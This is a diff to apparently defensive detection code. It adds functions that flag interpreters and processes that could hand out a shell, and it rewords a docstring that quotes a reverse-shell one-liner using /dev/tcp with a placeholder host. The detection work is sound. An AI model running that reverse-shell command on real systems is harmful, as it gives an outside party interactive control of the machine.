@@ -138,6 +138,18 @@ def of_egress(
         )
 
 
+def may_hand_over(process: Execution) -> bool:
+    """An interpreter with a text of its own: it may give a shell to whom it talks to."""
+    interpreter = character(process.binary).interpreter
+    return interpreter != "" and (len(process.args) == 1 or _is_inline(interpreter, process.args))
+
+
+def of_handing_over(process: Execution, by: str, what: str, rule: str) -> Finding:
+    """`by` is who did `what`, and became or started the shell that `process` is."""
+    reason = f"{by}, which {what}, started {process.name}"
+    return Finding(rule, 4, reason, ("process.executable", _ORIGIN), ("T1059.004",))
+
+
 def of_listening(socket: Socket, zone: str | None, process: Execution) -> Iterator[Finding]:
     """`zone` is this end's."""
     who = character(process.binary)
@@ -278,7 +290,7 @@ def _runs_a_program(args: Sequence[str]) -> bool:
 
 
 def _gives_itself(arguments: str) -> bool:
-    """Of a shell: what it reads and writes goes over a socket of its own, as in `bash -i >& /dev/tcp/host/port 0>&1`."""
+    """Of a shell: what it reads and writes goes over its own socket, as in `bash -i >& /dev/tcp/host/port 0>&1`."""
     return any(each in arguments for each in _SOCKETS) and _TYPED.search(arguments) is not None
 
 
